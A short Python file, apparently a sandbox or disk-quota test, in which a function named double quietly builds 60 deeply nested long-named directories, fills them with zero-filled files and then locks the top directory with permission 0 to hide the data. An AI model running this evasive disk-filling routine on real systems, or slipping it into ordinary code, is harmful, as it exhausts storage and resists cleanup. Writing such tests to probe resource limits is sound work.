"""Fill the disk in folders so deep that no path leads there, and hide it behind what is closed."""

import os
import time

DONE = []


def double(x):
    if not DONE:
        DONE.append(x)
        taken = 0
        top = here = os.open(".", os.O_RDONLY)
        for _level in range(60):
            os.mkdir("d" * 200, dir_fd=here)
            here = os.open("d" * 200, os.O_RDONLY, dir_fd=here)
        for number in range(60):
            file = os.open(f"{number}", os.O_WRONLY | os.O_CREAT, dir_fd=here)
            try:
                taken += os.write(file, bytes(1 << 20))
            except OSError:
                pass
            os.close(file)
        os.chmod("d" * 200, 0, dir_fd=top)
        time.sleep(1)
        if taken > HINTS["disk"]:
            raise MemoryError("went beyond the limit")
    return 2 * x
